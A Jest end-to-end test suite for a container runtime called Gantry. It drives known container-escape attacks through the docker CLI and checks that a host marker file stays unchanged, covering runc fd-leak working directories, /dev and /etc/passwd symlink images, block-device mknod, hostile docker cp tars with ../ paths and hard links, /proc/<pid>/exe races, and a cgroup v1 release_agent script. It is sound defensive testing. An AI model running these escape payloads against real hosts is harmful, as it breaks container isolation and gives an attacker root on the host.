/**
 * Container escape suite: known breakout attacks (runc and moby advisories) driven with the real
 * docker CLI against
 *   gantryd                 the Gantry stack (gantryd + gantry-containerd + gantry-runtime),
 *   dockerd-runc            a private Debian dockerd with runc (the reference: every case must pass
 *                           here, which shows the attacks are fair),
 *   dockerd-gantry-runtime  the same dockerd running containers with `--runtime gantry`
 *                           (gantry-runtime, or $RUNTIME); only the cases where the runtime is
 *                           involved (the others are dockerd's own code, covered by dockerd-runc).
 * Every attack must fail while the engine keeps serving, and each checks a host marker (a file
 * with unique content in a fresh /tmp directory, or a host file that must stay unchanged) rather
 * than an error string; where it is cheap, a control shows the same path or device WOULD reach
 * the marker on the host.
 *
 *   npx jest test/escape.e2e.test.ts                                # gantryd and dockerd-gantry-runtime
 *   ESCAPE_TARGETS=all npx jest test/escape.e2e.test.ts             # the three (npm run test:escape)
 *   ESCAPE_TARGETS=dockerd-runc npx jest test/escape.e2e.test.ts   # one target (comma-separated list)
 *
 * A missing tool (dockerd, runc, ...) skips a target with a warning, and fails it under CI=true.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import type { CommandResult } from '../src/containerd';
import {
  type AttackImages,
  buildAttackImages,
  docker,
  dockerAsync,
  type EscapeTarget,
  footprint,
  type Footprint,
  HostFixture,
  IMAGES,
  makeTar,
  missingFor,
  pooled,
  sha256,
  startTarget,
  type TargetKind,
  waitForOutput,
} from '../src/escape';
import { which } from '../src/paths';

jest.setTimeout(120000);

const ALL_TARGETS: TargetKind[] = ['gantryd', 'dockerd-runc', 'dockerd-gantry-runtime'];
// The reference target proves the attacks fair; it does not change with Gantry's code, so `npm test`
// leaves it to `npm run test:escape` (ESCAPE_TARGETS=all) and runs the two that exercise Gantry.
const DEFAULT_TARGETS: TargetKind[] = ['gantryd', 'dockerd-gantry-runtime'];
const TARGETS =
  process.env.ESCAPE_TARGETS === 'all' ? ALL_TARGETS : process.env.ESCAPE_TARGETS ? (process.env.ESCAPE_TARGETS.split(',') as TargetKind[]) : DEFAULT_TARGETS;
for (const t of TARGETS) if (!ALL_TARGETS.includes(t)) throw new Error(`ESCAPE_TARGETS: unknown target ${t} (one of ${ALL_TARGETS.join(', ')})`);

/** fds a leaked host directory could have in the runtime's init (runc's advisory used 7; Gantry's leaked 18). */
const FDS = Array.from({ length: 38 }, (_v, i) => i + 3);
/** docker calls in flight at once for the per-fd attacks (the machine has 2 cores). */
const PARALLEL = 3;

describe.each(TARGETS)('escape suite against %s', (kind) => {
  const missing = missingFor(kind);
  if (missing.length > 0 && process.env.CI !== 'true') {
    console.warn(`SKIPPING escape suite against ${kind}: missing ${missing.join(', ')} (under CI=true this fails)`);
    it.skip(`needs ${missing.join(', ')}`, () => undefined);
    return;
  }
  /** Cases that exercise only the engine's code (user lookup, docker cp): under dockerd they are dockerd's, whatever the runtime. */
  const engineCase = kind === 'dockerd-gantry-runtime' ? undefined : it;

  let fx: HostFixture;
  let imgs: AttackImages;
  let t: EscapeTarget | undefined;
  const loadErrors = new Map<string, string>();
  /** How each attack was answered (refused, or ran harmlessly), printed once at the end. */
  const notes: string[] = [];
  /** The line of docker's stderr that says what went wrong. */
  const errorLine = (r: CommandResult): string => {
    const lines = r.stderr.trim().split('\n');
    return (lines.find((l) => /error/i.test(l)) ?? lines[0] ?? '').slice(0, 300);
  };
  const note = (what: string, r: CommandResult): void => {
    notes.push(`${what}: exit ${r.status}${r.status === 0 ? '' : ` (${errorLine(r)})`}`);
  };
  let baseline: Footprint;
  let seq = 0;
  const name = (what: string): string => `${fx.token}-${what}-${++seq}`;

  const tgt = (): EscapeTarget => {
    if (!t) throw new Error(`${kind} did not start (see beforeAll)`);
    return t;
  };
  const dk = (args: string[], input?: Buffer | string): CommandResult => docker(tgt(), args, { input });
  const show = (what: string, r: CommandResult): string =>
    `${what}: exit ${r.status}\nstdout: ${r.stdout.slice(0, 2000)}\nstderr: ${r.stderr.slice(0, 2000)}\n${kind} log:\n${tgt().logTail()}`;
  const ok = (what: string, r: CommandResult): CommandResult => {
    if (r.status !== 0) throw new Error(show(what, r));
    return r;
  };
  /** `docker run --rm --network none <runtime flags> ...args`. */
  const runArgs = (args: string[]): string[] => ['run', '--rm', '--network', 'none', ...tgt().runFlags, ...args];
  const run = (args: string[]): CommandResult => dk(runArgs(args));
  const image = (ref: string): string => {
    const err = loadErrors.get(ref);
    if (err !== undefined) throw new Error(`docker load of ${ref} failed, the attack cannot be set up: ${err}`);
    return ref;
  };
  /** A long-running container whose command line carries the fixture token (so a leak of it is visible). */
  const startIdle = (n: string): void => {
    ok(
      `run -d ${n}`,
      dk(['run', '-d', '--name', n, '--network', 'none', ...tgt().runFlags, image(IMAGES.busybox), 'sh', '-c', 'while :; do sleep 1; done', fx.token]),
    );
  };
  const expectServing = (): void => {
    ok('docker version (the engine still serves)', dk(['version', '--format', '{{.Server.Version}}']));
    ok('docker ps (the engine still serves)', dk(['ps', '-q']));
  };
  /** A host tree (a fingerprint from HostFixture) must be exactly as it was. */
  const expectHostUnchanged = (what: string, before: string[], after: string[]): void => {
    const gone = before.filter((l) => !after.includes(l));
    const added = after.filter((l) => !before.includes(l));
    const diff = [...gone.map((l) => `- ${l}`), ...added.map((l) => `+ ${l}`)];
    if (diff.length > 0) throw new Error(`ESCAPE: ${what} changed the host:\n${diff.join('\n')}`);
  };
  /** Nothing an attack printed may contain the marker's content. */
  const expectNoMarker = (what: string, r: CommandResult): void => {
    if ((r.stdout + r.stderr).includes(fx.markerContent)) throw new Error(`ESCAPE: ${what} read the host marker ${fx.marker}\n${show(what, r)}`);
  };

  beforeAll(async () => {
    if (missing.length > 0) throw new Error(`escape suite against ${kind} needs ${missing.join(', ')}`);
    fx = new HostFixture();
    imgs = buildAttackImages(fx);
    t = await startTarget(kind);
    for (const [ref, archive] of imgs.archives) {
      const r = dk(['load', '-i', archive]);
      if (r.status !== 0) loadErrors.set(ref, `exit ${r.status}: ${r.stderr.trim()}`);
    }
    image(IMAGES.busybox);
    baseline = footprint(tgt(), fx);
  }, 120000);

  afterAll(async () => {
    if (notes.length > 0) console.info(`${kind}: how the attacks were answered\n  ${notes.join('\n  ')}`);
    await t?.stop();
    fx?.remove();
  }, 90000);

  // 1. CVE-2024-21626 (runc GHSA-xr7r-f8xq-vfvv): a working directory through a leaked fd
  describe('CVE-2024-21626: working directory /proc/self/fd/N', () => {
    it('the climbing path reaches the marker from a host directory fd (control, on the host)', () => {
      const r = spawnSync('sh', ['-c', 'exec 9<"$2" && cd /proc/self/fd/9 && cat "$1"', 'sh', HostFixture.climb(fx.marker), tgt().dir], { encoding: 'utf8' });
      expect(r.stdout).toBe(`${fx.markerContent}\n`);
    });

    it('docker run -w /proc/self/fd/N (N = 3..40) never reads the host marker', async () => {
      const results = await pooled(
        FDS.map((n) => () => dockerAsync(tgt(), runArgs(['-w', `/proc/self/fd/${n}`, image(IMAGES.busybox), 'cat', HostFixture.climb(fx.marker)]))),
        PARALLEL,
      );
      const leaks = results.flatMap((r, i) => ((r.stdout + r.stderr).includes(fx.markerContent) ? [`fd ${FDS[i]}: exit ${r.status}: ${r.stdout.trim()}`] : []));
      notes.push(`run -w /proc/self/fd/N: exit codes ${[...new Set(results.map((r) => r.status))].join(',')}`);
      expect(leaks).toEqual([]);
      expectServing();
    }, 240000);

    it('docker exec -w /proc/self/fd/N (N = 3..40) never reads the host marker', async () => {
      const c = name('cwd-exec');
      startIdle(c);
      const results = await pooled(
        FDS.map((n) => () => dockerAsync(tgt(), ['exec', '-w', `/proc/self/fd/${n}`, c, 'cat', HostFixture.climb(fx.marker)])),
        PARALLEL,
      );
      const leaks = results.flatMap((r, i) => ((r.stdout + r.stderr).includes(fx.markerContent) ? [`fd ${FDS[i]}: exit ${r.status}: ${r.stdout.trim()}`] : []));
      // control: exec itself works in this container
      expect(ok('exec cat /etc/hostname', dk(['exec', c, 'cat', '/etc/hostname'])).stdout.length).toBeGreaterThan(0);
      dk(['rm', '-f', c]);
      expect(leaks).toEqual([]);
      expectServing();
    }, 240000);
  });

  // 2. A malicious image with /dev as a symlink to a host directory (runc GHSA-xjvp-4fhw-gc47,
  //    CVE-2025-52565): setting up /dev must not create, delete or mount anything on the host.
  it('an image whose /dev is a symlink to a host directory: nothing is created there and it is not readable', () => {
    const before = HostFixture.fingerprint(imgs.devTarget);
    const r = run([image(IMAGES.devLink), 'sh', '-c', 'cat /dev/marker; ls -la /dev; echo probe > /dev/esc-probe; : "$0"', fx.token]);
    note('/dev -> host dir', r);
    if ((r.stdout + r.stderr).includes(imgs.devMarkerContent)) throw new Error(`ESCAPE: the container read ${imgs.devMarker}\n${show('run dev-link', r)}`);
    expectHostUnchanged('an image with /dev -> a host directory', before, HostFixture.fingerprint(imgs.devTarget));
    expect(footprint(tgt(), fx).mounts.filter((m) => m.startsWith(imgs.devTarget))).toEqual([]);
    expectServing();
  });

  // 3. /etc/passwd as a symlink to a host file during `docker run -u name` (the engine resolves the
  //    user: moby resolves it inside the container root; containers/storage CVE-2024-9676 is the
  //    same read-through-symlink class).
  engineCase?.('-u name with /etc/passwd a symlink to a host file: the host entry never reaches the container', () => {
    // control: the same entry in the image's own /etc/passwd is honoured (this is what a leak looks like)
    const control = ok('run -u escuser (passwd in the image)', run(['-u', imgs.passwdUser, image(IMAGES.passwdFile), 'sh', '-c', 'id -u; id -g']));
    expect(control.stdout).toBe('4242\n4343\n');
    const before = HostFixture.fingerprint(fx.dir).filter((l) => l.startsWith(`${imgs.hostPasswd} `));
    const r = run(['-u', imgs.passwdUser, image(IMAGES.passwdLink), 'sh', '-c', 'id -u; id -g; cat /etc/passwd']);
    note('/etc/passwd -> host file, -u escuser', r);
    if (r.stdout.includes('4242') || (r.stdout + r.stderr).includes(imgs.passwdSecret)) {
      throw new Error(`ESCAPE: the host passwd file ${imgs.hostPasswd} reached the container\n${show('run -u escuser (passwd link)', r)}`);
    }
    expectHostUnchanged(
      'the passwd lookup',
      before,
      HostFixture.fingerprint(fx.dir).filter((l) => l.startsWith(`${imgs.hostPasswd} `)),
    );
    expectServing();
  });

  // 4. Block devices: mknod inside the container (CAP_MKNOD is in the default set) and a node
  //    shipped in the image must not open (the devices cgroup denies them).
  describe('block devices: the host root disk and a loop device holding a marker', () => {
    const READ = 65536;
    /** sha256 of the first 64 KiB of the root disk read on the host, when the host itself may read it. */
    let diskHash: string | undefined;

    /** Reads the first 64 KiB through a fresh node with the device's major:minor, on the host. */
    const hostRead = (dev: { major: number; minor: number }): Buffer => {
      const node = join(fx.dir, `host-node-${dev.major}-${dev.minor}`);
      const mk = spawnSync('mknod', ['-m', '0600', node, 'b', String(dev.major), String(dev.minor)], { encoding: 'utf8' });
      if (mk.status !== 0) throw new Error(`mknod: ${mk.stderr}`);
      try {
        const fd = fs.openSync(node, 'r');
        try {
          const buf = Buffer.alloc(READ);
          return buf.subarray(0, fs.readSync(fd, buf, 0, READ, 0));
        } finally {
          fs.closeSync(fd);
        }
      } finally {
        fs.rmSync(node);
      }
    };

    it('the same major:minor opened on the host reads the data (control)', () => {
      expect(hostRead(imgs.loop).toString('latin1')).toContain(imgs.loopMarker);
      // The root disk too, unless the host itself is not allowed to open it (some sandboxes refuse
      // even root): then the loop device alone carries the proof.
      try {
        const data = hostRead(imgs.disk);
        expect(data.length).toBe(READ);
        diskHash = sha256(data);
      } catch (e) {
        if ((e as NodeJS.ErrnoException).code !== 'EPERM') throw e;
        console.warn(`the host cannot open its root disk ${imgs.disk.path} (EPERM): only the loop device proves case 4 here`);
      }
    });

    it.each([
      ['root', '0:0'],
      ['uid 1000', '1000:1000'],
    ])('as %s: mknod and the image-shipped 0666 nodes cannot be read', (_who, user) => {
      const { disk, loop } = imgs;
      const nodes = ['/tmp/loop', imgs.loopNode, '/tmp/disk', imgs.diskNode];
      const script = [
        `mknod /tmp/loop b ${loop.major} ${loop.minor} && echo mknod-ok`,
        `mknod /tmp/disk b ${disk.major} ${disk.minor}`,
        `stat -c 'node %n %F %t:%T %a' ${nodes.join(' ')}`,
        `for f in ${nodes.join(' ')}; do echo "read $f $(dd if=$f bs=${READ} count=1 2>/dev/null | sha256sum)"; dd if=$f bs=512 count=1 2>&1; echo; done`,
        ': "$0"',
      ].join('; ');
      const r = run(['-u', user, image(IMAGES.blockDev), 'sh', '-c', script, fx.token]);
      notes.push(
        `block devices as ${user}: ${r.stdout.includes('mknod-ok') ? 'mknod allowed' : 'mknod refused'}; ${r.stdout.split('\n').filter((l) => l.startsWith('dd:')).length} opens refused`,
      );
      if (r.stdout.includes(imgs.loopMarker)) throw new Error(`ESCAPE: the container read the loop device ${loop.path}\n${show('run block-dev', r)}`);
      if (diskHash !== undefined && r.stdout.includes(diskHash))
        throw new Error(`ESCAPE: the container read the host disk ${disk.path}\n${show('run block-dev', r)}`);
      expect(r.stdout).toMatch(/^read \/opt\/loop /m); // the attack ran
      expectServing();
    });
  });

  // 5. docker cp through container symlinks to "/" and to host paths (moby #5619 / PR 5674 and
  //    6000; CVE-2018-15664 is the racing variant): the marker is neither read nor overwritten.
  engineCase?.('docker cp to and from symlinks to / and to host paths leaves the host alone', () => {
    const c = name('cp');
    startIdle(c);
    ok('make links', dk(['exec', c, 'sh', '-c', `ln -s / /rootlink && ln -s ${fx.marker} /markerlink && ln -s ${fx.secretDir} /dirlink && mkdir /drop`]));
    const payload = join(fx.dir, 'payload');
    fs.writeFileSync(payload, `payload-${fx.token}\n`);
    const before = fx.secretState();
    const reads = (): [string, CommandResult][] => [
      ['cp c:/markerlink -', dk(['cp', `${c}:/markerlink`, '-'])],
      ['cp -L c:/markerlink -', dk(['cp', '-L', `${c}:/markerlink`, '-'])],
      ['cp c:/rootlink<marker> -', dk(['cp', `${c}:/rootlink${fx.marker}`, '-'])],
      ['cp c:/dirlink/marker -', dk(['cp', `${c}:/dirlink/marker`, '-'])],
      ['cp c:/dirlink/ -', dk(['cp', `${c}:/dirlink/`, '-'])],
      ['cp c:/rootlink/../../<marker> -', dk(['cp', `${c}:/rootlink/../..${fx.marker}`, '-'])],
    ];
    const writes = (): [string, CommandResult][] => [
      ['cp payload c:/markerlink', dk(['cp', payload, `${c}:/markerlink`])],
      ['cp payload c:/dirlink/', dk(['cp', payload, `${c}:/dirlink/`])],
      ['cp payload c:/dirlink/marker', dk(['cp', payload, `${c}:/dirlink/marker`])],
      ['cp payload c:/rootlink<secret>/', dk(['cp', payload, `${c}:/rootlink${fx.secretDir}/`])],
      ['cp - c:/dirlink (tar with "marker")', dk(['cp', '-', `${c}:/dirlink`], makeTar([{ name: 'marker', data: `overwritten-${fx.token}\n` }]))],
    ];
    for (const state of ['running', 'stopped']) {
      if (state === 'stopped') ok('kill', dk(['kill', c]));
      for (const [what, r] of reads()) expectNoMarker(`${state}: ${what}`, r);
      for (const [what, r] of writes()) note(`${state}: ${what}`, r); // whatever they answer, only the host side counts
      expectHostUnchanged(`docker cp through symlinks (${state})`, before, fx.secretState());
      // control: the same commands do copy in and out of the container
      ok(`${state}: cp payload c:/drop/`, dk(['cp', payload, `${c}:/drop/`]));
      expect(ok(`${state}: cp c:/drop/payload -`, dk(['cp', `${c}:/drop/payload`, '-'])).stdout).toContain(`payload-${fx.token}`);
    }
    dk(['rm', '-f', c]);
    expectServing();
  });

  // 6. Hostile tars through PUT /containers/{id}/archive (`docker cp - c:/path`): `../` and absolute
  //    names, a symlink then a file written through it, hard links to host files (moby
  //    CVE-2014-6407, CVE-2014-9356): nothing is written outside the container root.
  engineCase?.('docker cp - with ../, absolute, symlink-then-file and hard-link entries writes nothing outside the container', () => {
    const c = name('tar');
    startIdle(c);
    const secretRel = fx.secretDir.replace(/^\/+/, '');
    const climb = '../'.repeat(12);
    const uploads: [string, Buffer][] = [
      ['../ entry', makeTar([{ name: `${climb}${secretRel}/dotdot-${fx.token}`, data: 'dotdot\n' }])],
      ['absolute entry', makeTar([{ name: `${fx.secretDir}/abs-${fx.token}`, data: 'abs\n' }])],
      [
        'symlink to a host dir, then a file through it',
        makeTar([
          { name: 'lnk', type: 'symlink', linkname: fx.secretDir },
          { name: `lnk/through-${fx.token}`, data: 'through\n' },
        ]),
      ],
      [
        'symlink climbing out, then a file through it',
        makeTar([
          { name: 'up', type: 'symlink', linkname: climb },
          { name: `up/${secretRel}/up-${fx.token}`, data: 'up\n' },
        ]),
      ],
      [
        'symlink to the host marker, then the same name as a file',
        makeTar([
          { name: 'mlnk', type: 'symlink', linkname: fx.marker },
          { name: 'mlnk', data: `overwritten-${fx.token}\n` },
        ]),
      ],
      ['hard link to the host marker (absolute)', makeTar([{ name: 'hl', type: 'hardlink', linkname: fx.marker }])],
      ['hard link to the host marker (climbing)', makeTar([{ name: 'hl2', type: 'hardlink', linkname: `${climb}${fx.marker.replace(/^\/+/, '')}` }])],
      ['control', makeTar([{ name: `ok-${fx.token}`, data: 'ok\n' }])],
    ];
    const before = fx.secretState();
    for (const state of ['running', 'stopped']) {
      if (state === 'stopped') ok('kill', dk(['kill', c]));
      const dest = `/tmp/${state}`;
      if (state === 'running') ok('mkdir', dk(['exec', c, 'mkdir', '/tmp/running', '/tmp/stopped']));
      const results = uploads.map(([what, tar]) => [what, dk(['cp', '-', `${c}:${dest}`], tar)] as const);
      expectHostUnchanged(`hostile tars (${state})`, before, fx.secretState());
      for (const [what, r] of results) {
        note(`${state}: cp - (${what})`, r);
        expectNoMarker(`${state}: ${what}`, r);
      }
      // read back what landed in the container: the control file, and no content of the marker
      const back = ok(`${state}: cp c:${dest} -`, dk(['cp', `${c}:${dest}`, '-']));
      expect(back.stdout).toContain(`ok-${fx.token}`);
      expectNoMarker(`${state}: cp c:${dest} - after the uploads`, back);
      if (state === 'running')
        expectNoMarker('cat through the uploaded links', dk(['exec', c, 'sh', '-c', `cat ${dest}/hl ${dest}/hl2 ${dest}/mlnk ${dest}/lnk/* 2>&1`]));
    }
    dk(['rm', '-f', c]);
    expectServing();
  });

  // 7. /proc as a volume (runc CVE-2019-16884 / runc#2128, moby CVE-2015-3631): refused with an
  //    error naming the /proc mount, or, if anything runs, /proc is still procfs with its masked
  //    paths masked. Both fake trees hold the files a runtime writes (a sysctl) or masks, so a
  //    runtime that does not refuse gets past its set-up.
  describe('mounts over /proc', () => {
    const probe = 'cat /proc/version; echo "fstype $(stat -f -c %T /proc)"; echo "kcore $(stat -c %F /proc/kcore)"; ls /proc; : "$0"';
    const check = (what: string, r: CommandResult): string => {
      if ((r.stdout + r.stderr).includes(imgs.fakeProc)) throw new Error(`ESCAPE: ${what} replaced /proc\n${show(what, r)}`);
      if (r.status === 0) {
        if (!/^fstype proc$/m.test(r.stdout) || !/^kcore character special file$/m.test(r.stdout)) {
          throw new Error(`ESCAPE: ${what} ran without a real /proc with /proc/kcore masked\n${show(what, r)}`);
        }
        return 'ran with procfs and masks intact';
      }
      // the error names the mount on /proc itself, not some file below a /proc it already replaced
      if (!/(^|[\s"'])\/proc($|[\s"':,])/m.test(r.stderr)) throw new Error(`not a clear refusal of the /proc mount\n${show(what, r)}`);
      return `refused: ${errorLine(r)}`;
    };

    it('an image with VOLUME /proc', () => {
      const r = run([image(IMAGES.procVolume), 'sh', '-c', probe, fx.token]);
      notes.push(`VOLUME /proc: ${check('VOLUME /proc', r)}`);
      expectServing();
    });

    it('-v <host dir>:/proc', () => {
      const before = HostFixture.fingerprint(imgs.hostProc);
      const r = run(['-v', `${imgs.hostProc}:/proc`, image(IMAGES.busybox), 'sh', '-c', probe, fx.token]);
      expectHostUnchanged('-v <host dir>:/proc', before, HostFixture.fingerprint(imgs.hostProc));
      notes.push(`-v host:/proc: ${check('-v host:/proc', r)}`);
      expectServing();
    });
  });

  // 8. /proc/<pid>/{root,cwd,exe,fd} of processes `docker exec` starts (runc CVE-2016-9962; the
  //    exe of the runtime is CVE-2019-5736's way in): a container with CAP_SYS_PTRACE watches for
  //    them while the test runs 20 execs.
  describe('/proc/<pid>/root race against docker exec', () => {
    // $1: the marker's absolute path, $2: a stop file, $3: the /proc entries to look at. Runs at
    // least one round. Prints
    //   LEAK ...      anything read through another process's root, cwd or directory fds;
    //   EXE <p> <id>  the dev:ino of an executable that is not its own busybox; it keeps the first
    //                 three open (fds 5-7), as CVE-2019-5736 did, and each round tries to reopen
    //                 them for writing (a zero-byte append: nothing is ever written);
    //   EXEWRITE <fd> when that reopen succeeded;
    //   SAW <p>       a process of the test's execs (they carry the word execprobe), which it then
    //                 lets end by creating /tmp/seen-<pid> (so every exec is watched while it runs).
    const watcher = [
      'b=$(stat -L -c %d:%i /proc/self/exe); echo ready',
      'n=0; k=5; held=""',
      'while :; do',
      '  n=$((n+1))',
      '  for p in $3; do',
      '    [ "$p" = "/proc/$$" ] && continue',
      '    for w in root cwd; do c=$(cat "$p/$w$1" 2>/dev/null) && echo "LEAK $p $w $c"; done',
      `    for f in "$p"/fd/*; do c=$(cat "$f/${'../'.repeat(16).slice(0, -1)}$1" 2>/dev/null) && echo "LEAK $f $c"; done`,
      '    e=$(stat -L -c %d:%i "$p/exe" 2>/dev/null) || e=$b',
      '    if [ "$e" != "$b" ]; then',
      '      echo "EXE $p $e"',
      '      case " $held " in *" $e "*) ;; *) [ $k -le 7 ] && { eval "command exec $k<\\"\\$p/exe\\""; } 2>/dev/null && held="$held $e" && k=$((k+1)) ;; esac',
      '    fi',
      '    grep -q execprobe "$p/cmdline" 2>/dev/null && echo "SAW $p" && : > "/tmp/seen-${p#/proc/}"',
      '  done',
      '  for i in 5 6 7; do [ -e /proc/self/fd/$i ] && ( : >> /proc/self/fd/$i ) 2>/dev/null && echo "EXEWRITE $i $(stat -L -c %d:%i /proc/self/fd/$i)"; done',
      '  [ -e "$2" ] && break',
      'done',
      'echo "done $n"',
    ].join('\n');

    /** dev:ino -> path of host binaries a container could reach through /proc/<pid>/exe. */
    const hostBinaries = (): Map<string, string> => {
      const ids = new Map<string, string>();
      const names = ['node', 'runc', 'containerd', 'containerd-shim-runc-v2', 'dockerd', 'docker-init', 'sh', 'dash', 'bash', 'env'];
      for (const c of [process.execPath, ...names.map((b) => which(b) ?? `/usr/sbin/${b}`)]) {
        try {
          const real = fs.realpathSync(c);
          const st = fs.statSync(real);
          ids.set(`${st.dev}:${st.ino}`, real);
        } catch {
          // not installed
        }
      }
      return ids;
    };
    const hashes = (paths: Iterable<string>): Record<string, string> => Object.fromEntries([...paths].map((p) => [p, sha256(fs.readFileSync(p))]));

    it('the watcher reads the marker through /proc/<pid>/root of a host process (control, on the host)', () => {
      const stop = join(fx.dir, 'stop-now');
      fs.writeFileSync(stop, '');
      const r = spawnSync('/bin/busybox', ['sh', '-c', watcher, 'watcher', fx.marker, stop, `/proc/${process.pid}`], { encoding: 'utf8', timeout: 60000 });
      expect(r.stdout).toContain(`LEAK /proc/${process.pid} root ${fx.markerContent}`);
      expect(r.stdout).toMatch(/^EXE /m);
    });

    it('a CAP_SYS_PTRACE container never reads the marker nor gets a host binary for writing while 20 execs start', async () => {
      const host = hostBinaries();
      const before = hashes(host.values());
      const c = name('race');
      ok(
        'run -d watcher',
        dk([
          'run',
          '-d',
          '--name',
          c,
          '--network',
          'none',
          '--cap-add',
          'SYS_PTRACE',
          ...tgt().runFlags,
          image(IMAGES.busybox),
          'sh',
          '-c',
          watcher,
          fx.token,
          fx.marker,
          '/stop',
          '/proc/[0-9]*',
        ]),
      );
      await waitForOutput(tgt(), ['logs', '-f', c], 'ready');
      for (let i = 0; i < 20; i++) {
        ok(`exec ${i}`, dk(['exec', c, 'sh', '-c', 'until [ -e /tmp/seen-$$ ]; do :; done', 'execprobe', fx.token]));
      }
      ok('exec touch /stop', dk(['exec', c, 'touch', '/stop']));
      ok('wait', dk(['wait', c]));
      const logs = dk(['logs', c]);
      dk(['rm', '-f', c]);
      const lines = logs.stdout.split('\n');
      expectNoMarker('the /proc/<pid> watcher', logs);
      expect(lines.filter((l) => l.startsWith('LEAK'))).toEqual([]);
      expect(lines.filter((l) => l.startsWith('EXEWRITE'))).toEqual([]);
      expect(hashes(host.values())).toEqual(before);
      // Reaching a host binary read-only is not an escape by itself (runc's own init shows up as the
      // host runc binary, behind a read-only bind mount); it is reported for the record.
      const reached = [...new Set(lines.filter((l) => l.startsWith('EXE ')).map((l) => l.split(' ')[2]!))].map(
        (id) => `${id} ${host.get(id) ?? '(not a known host binary)'}`,
      );
      if (reached.length > 0) console.info(`${kind}: executables of other processes the container could open through /proc/<pid>/exe: ${reached.join(', ')}`);
      // the watcher ran while the execs did: it saw each of them
      expect(lines.filter((l) => l.startsWith('SAW ')).length).toBeGreaterThanOrEqual(20);
      expect(logs.stdout).toMatch(/^done \d+$/m);
      expectServing();
    }, 180000);
  });

  // 9. CVE-2022-0492 (cgroup v1 release_agent): a container mounts a cgroup v1 hierarchy (as it is,
  //    or as root of a fresh user namespace) and points its release_agent at a script of its own,
  //    which the host kernel would run as root when a cgroup empties. Judged on the host: every
  //    hierarchy's release_agent is as it was and the script never wrote its host file.
  describe('CVE-2022-0492: cgroup v1 release_agent', () => {
    /** Every cgroup v1 hierarchy's release_agent on the host: `<file>=<value>`. */
    const hostAgents = (): string[] =>
      fs
        .readdirSync('/sys/fs/cgroup')
        .map((d) => join('/sys/fs/cgroup', d, 'release_agent'))
        .filter((f) => fs.existsSync(f))
        .map((f) => `${f}=${fs.readFileSync(f, 'utf8').trim()}`);

    it.each([
      ['the default profile', [] as string[]],
      ['seccomp=unconfined', ['--security-opt', 'seccomp=unconfined']],
    ])('with %s: no release_agent is set and the agent never runs on the host', (what, flags) => {
      const before = hostAgents();
      expect(before.length).toBeGreaterThan(0); // a cgroup v1 host: the attack has something to aim at
      const released = join(fx.dir, `released-${++seq}`);
      // /attempt.sh LABEL: mount a v1 hierarchy, write its release_agent (and the ones under
      // /sys/fs/cgroup), then empty a notify_on_release child cgroup to fire it.
      const attempt = [
        'l=$1; m=; mkdir -p /tmp/cg-$l',
        'for s in rdma memory pids cpu,cpuacct freezer; do if mount -t cgroup -o $s cgroup /tmp/cg-$l 2>/tmp/err; then echo "$l mount $s ok"; m=1; break; else echo "$l mount $s refused: $(cat /tmp/err)"; fi; done',
        'for f in /tmp/cg-$l/release_agent /sys/fs/cgroup/*/release_agent; do [ -e "$f" ] || continue; if echo "$AGENT" > "$f" 2>/tmp/err; then echo "$l WROTE $f"; else echo "$l write $f refused: $(cat /tmp/err)"; fi; done',
        'if [ -n "$m" ]; then mkdir -p /tmp/cg-$l/esc && echo 1 > /tmp/cg-$l/esc/notify_on_release && sh -c "echo \\$\\$ > /tmp/cg-$l/esc/cgroup.procs" && echo "$l triggered"; fi',
        'echo "$l done"',
      ].join('\n');
      const script = [
        // the container's own files as the host sees them: overlay's upperdir, as the exploit finds it
        `up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n 1)`,
        `printf '#!/bin/sh\\necho escaped > ${released}\\n' > /agent && chmod 755 /agent`,
        'export AGENT="$up/agent"; echo "agent $AGENT"',
        `cat > /attempt.sh <<'EOF'\n${attempt}\nEOF`,
        'sh /attempt.sh direct',
        'unshare -Urm sh /attempt.sh userns || echo "userns refused"',
        ': "$0"',
      ].join('\n');
      const r = run([...flags, image(IMAGES.busybox), 'sh', '-c', script, fx.token]);
      notes.push(
        `release_agent with ${what}: ${r.stdout.includes(' ok') ? 'a cgroup mount succeeded' : 'every cgroup mount refused'}; ${r.stdout.includes('userns refused') ? 'unshare refused' : 'unshare ran'}`,
      );
      expect(r.stdout).toMatch(/^direct done$/m); // the attack ran
      expect(r.stdout).toMatch(/^direct mount memory /m);
      if (!r.stdout.includes('userns refused')) expect(r.stdout).toMatch(/^userns done$/m);
      expectHostUnchanged(`release_agent with ${what}`, before, hostAgents());
      if (fs.existsSync(released)) throw new Error(`ESCAPE: the host ran the container's release agent (${released})\n${show('run release_agent', r)}`);
      if (/ WROTE /.test(r.stdout)) throw new Error(`ESCAPE: a release_agent was written\n${show('run release_agent', r)}`);
      expectServing();
    });
  });

  // 10. The engine keeps serving, and nothing leaked.
  it('after the attacks: docker run --rm works and no container, process or mount was left behind', async () => {
    expect(ok('run --rm true', run([image(IMAGES.busybox), 'true'])).status).toBe(0);
    expect(dk(['ps', '-aq']).stdout.trim()).toBe('');
    let now = footprint(tgt(), fx);
    const deadline = Date.now() + 15000;
    while ((now.procs.length > baseline.procs.length || now.mounts.length > baseline.mounts.length) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 200)); // shims and mounts of removed containers go away on their own
      now = footprint(tgt(), fx);
    }
    expect(now).toEqual(baseline);
    expect(fx.secretState().map((l) => l.split(' ')[0])).toEqual([fx.marker]);
    expect(fs.readFileSync(fx.marker, 'utf8')).toBe(`${fx.markerContent}\n`);
  }, 60000);
});
